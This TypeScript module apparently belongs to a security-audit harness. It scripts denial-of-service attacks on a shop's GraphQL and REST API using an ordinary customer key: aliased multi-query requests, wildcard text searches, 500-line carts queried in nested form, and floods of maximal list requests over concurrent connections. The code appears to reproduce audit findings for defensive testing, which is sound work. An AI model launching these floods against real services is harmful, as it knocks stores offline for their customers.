import type { Arm, Attack } from './attack.ts';
import { query, signed } from './attack.ts';

/** Conditions that fit together in any number: the bits of a place choose. */
const conditions = [
  'name_cont=a',
  'id_gt=0',
  'permalink_cont=b',
  'description_cont=c',
  'name_start=d',
  'id_lt=99999',
  'name_not_eq=e',
  'permalink_not_eq=f',
  'created_at_gt=2001-01-01',
  'updated_at_gt=2001-01-02',
];

const shapeOf = (place: number): string =>
  conditions
    .filter((_, bit) => (((place % 1_023) + 1) >> bit) % 2 === 1)
    .map((condition) => `q[${condition.replace('=', ']=')}`)
    .join('&');

const aliases = (count: number, field: string): string =>
  `{ ${Array.from({ length: count }, (_, place) => `a${String(place)}: ${field}`).join(' ')} }`;

const wildcards = '%ab'.repeat(33);
const miss = `${'ab'.repeat(49)}c`;
const order = `id number state email specialInstructions total createdAt
  lineItems { id quantity price variant { id sku name } } payments { id state }`;

/** The patterns of the finding; the longest and most that are allowed; the same with wildcards. */
const patterns = [
  aliases(
    15,
    `myOrders(filter: { specialInstructions: { matches: "${wildcards}" } }) { totalCount }`,
  ),
  aliases(
    15,
    `myOrders(filter: { and: [${`{ specialInstructions: { cont: "${miss}" } },`.repeat(10)}] }) { totalCount }`,
  ),
  aliases(1, `myOrders(filter: { specialInstructions: { cont: "${miss}" } }) { totalCount }`),
  aliases(1, 'myOrders(filter: { email: { matches: "%a%b%c%d" } }) { totalCount }'),
];

/** How many times how many orders: the finding's, and what one query may ask for. */
const shapes = [
  [15, 300],
  [1, 300],
  [15, 10],
  [1, 100],
] as const;

const linesOfCart = 500;

/** Creates a cart of a variant, by its place, whose lines are not merged, and gives its number. */
export async function cartOfLines(
  arm: Arm,
  place: number,
  specialInstructions = '',
): Promise<string> {
  const query =
    'mutation ($input: CreateOrderInput!) { createOrder(merge: false, input: $input) { order { number } } }';
  const line = { variantId: arm.target.variantIds.at(place), quantity: 1 };
  const lineItems = Array.from({ length: linesOfCart }, () => line);
  const variables = { input: { lineItems, specialInstructions } };
  const body = JSON.stringify({ query, variables });
  const { text: told } = await arm.prepare('POST', '/graphql', { headers: signed(arm), body });
  const [, number] = /"number":"(R\d+)"/.exec(told) ?? [];
  if (!number) throw new Error(`No cart of lines: ${told}`);
  return number;
}

const line = 'id quantity price singleDisplayAmount description createdAt updatedAt';
const linesOfOrder = (selection: string): string =>
  `lineItems { ${line} order { id ${selection} } }`;

/** What is asked below each line of an order: all its lines, then the dearest that is allowed. */
const belowLines = (number: string): readonly string[] => [
  `{ order(by: { number: "${number}" }) { ${linesOfOrder(linesOfOrder(''))} } }`,
  `{ lineItems(order: { number: "${number}" }, perPage: 9) {
    nodes { ${line} order { ${linesOfOrder('')} } } } }`,
  `{ order(by: { number: "${number}" }) {
    ${linesOfOrder('user { orders(first: 400) { nodes { number } } }')} } }`,
];

const get = (arm: Arm, path: string): Promise<unknown> =>
  arm.ask('GET', path, { headers: signed(arm) });

/** What safety.md found an ordinary customer's key to do by reading. */
export const attacksOfReaders: readonly Attack[] = [
  {
    finding: '9',
    does: '8 connections search long texts by patterns, up to 15 times in a query',
    reaches: 200,
    carts: 300,
    strike: (arm) => arm.crowd(8, (place) => query(arm, patterns[place % patterns.length] ?? '')),
  },
  {
    finding: '11',
    does: '2 connections request 15 times 300 orders in a query, or as many as allowed',
    reaches: 200,
    carts: 300,
    strike: (arm) =>
      arm.crowd(2, (place) => {
        const [many, perPage] = shapes[place % shapes.length] ?? [1, 1];
        const page = `myOrders(perPage: ${String(perPage)}) { nodes { ${order} } }`;
        return query(arm, aliases(many, page));
      }),
  },
  {
    finding: '11',
    does: '4 connections request the 500 lines of an order below each of its lines, or as much as allowed',
    reaches: 400,
    carts: 400,
    readies: (arm) => cartOfLines(arm, 0),
    strike: (arm, number = '') => {
      const documents = belowLines(number);
      return arm.crowd(4, (place) => query(arm, documents[place % documents.length] ?? ''));
    },
  },
  {
    finding: '11',
    does: '4 connections list 20 carts of 500 lines',
    reaches: 200,
    readies: async (arm) => {
      for (let carts = 20; carts > 0; carts -= 1) await cartOfLines(arm, 0);
    },
    strike: (arm) => {
      const page = 'myOrders(perPage: 20) { nodes { id lineItems { id description } } }';
      return arm.crowd(4, (place) =>
        place % 2 === 0 ? query(arm, `{ ${page} }`) : get(arm, '/api/orders/mine?per_page=20'),
      );
    },
  },
  {
    finding: '18',
    does: '4 connections read a cart of 500 lines of the longest description, and the list that it is in',
    reaches: 200,
    readies: (arm) => cartOfLines(arm, -1),
    strike: (arm, number = '') => {
      const paths = [`/api/orders/${number}`, `/api/orders/${number}.json`, '/api/orders/mine'];
      return arm.crowd(4, (place) => get(arm, paths[place % paths.length] ?? ''));
    },
  },
  {
    finding: '13',
    does: 'searches of different shape, 62 a second',
    reaches: 200,
    strike: (arm) =>
      arm.pace(62, (place) => get(arm, `/api/products?per_page=5&${shapeOf(place)}`)),
  },
  {
    finding: '14',
    does: '8 connections request the longest lists without a pause',
    reaches: 200,
    carts: 300,
    strike: (arm) =>
      arm.crowd(
        8,
        (place) =>
          [
            () => get(arm, '/api/variants?per_page=500'),
            () => get(arm, '/api/orders/mine?per_page=300'),
            () => query(arm, `{ myOrders(perPage: 100) { nodes { ${order} } } }`),
          ][place % 3]?.() ?? Promise.resolve(),
      ),
  },
];
